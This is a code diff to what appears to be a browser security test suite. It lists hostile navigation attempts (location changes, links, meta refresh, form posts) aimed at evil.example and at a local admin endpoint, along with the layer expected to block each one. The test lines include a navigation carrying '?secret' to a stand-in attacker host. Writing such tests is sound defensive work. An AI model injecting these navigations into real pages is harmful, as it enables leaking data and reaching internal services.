@@ -23,10 +23,11 @@ const form = (attributes: string): string => `${element(`<form id="form" ${attri
   document.getElementById('form').submit()
   document.getElementById('form').remove()`
 
+/** Each to an address of its own: of two in a row to the same one Chromium drops the second while the first is not over. */
 const navigations: Hostile[] = [
   ['location.href', "location.href = 'https://evil.example/'", 'guard'],
-  ['location.assign', "location.assign('https://evil.example/')", 'guard'],
-  ['location.replace', "location.replace('https://evil.example/')", 'guard'],
+  ['location.assign', "location.assign('https://evil.example/assign')", 'guard'],
+  ['location.replace', "location.replace('https://evil.example/replace')", 'guard'],
   ['plain http', "location = 'http://evil.example/'", 'guard'],
   ['top.location', "top.location = 'https://evil.example/?secret'", 'guard'],
   ['this machine', "location = 'http://127.0.0.1:8080/admin/graphql'", 'guard'],
@@ -46,8 +47,8 @@ const navigations: Hostile[] = [
   ['the empty page', "location = 'about:blank'", 'guard'],
   ['the source of a page', "location = 'view-source:https://evil.example/'", 'chromium'],
   ['a link', link('href="https://evil.example/"'), 'guard'],
-  ['a link to the top', link('href="https://evil.example/" target="_top"'), 'guard'],
-  ['meta refresh', made('meta', "{ httpEquiv: 'refresh', content: '0;url=https://evil.example/' }"), 'guard'],
+  ['a link to the top', link('href="https://evil.example/top" target="_top"'), 'guard'],
+  ['meta refresh', made('meta', "{ httpEquiv: 'refresh', content: '0;url=https://evil.example/refresh' }"), 'guard'],
   ['a form that posts', form('method="post" action="https://evil.example/"'), 'policy form-action'],
   ['a form that gets', form('action="https://evil.example/"'), 'policy form-action'],
   ['a form to ourselves', form(''), 'policy form-action'],
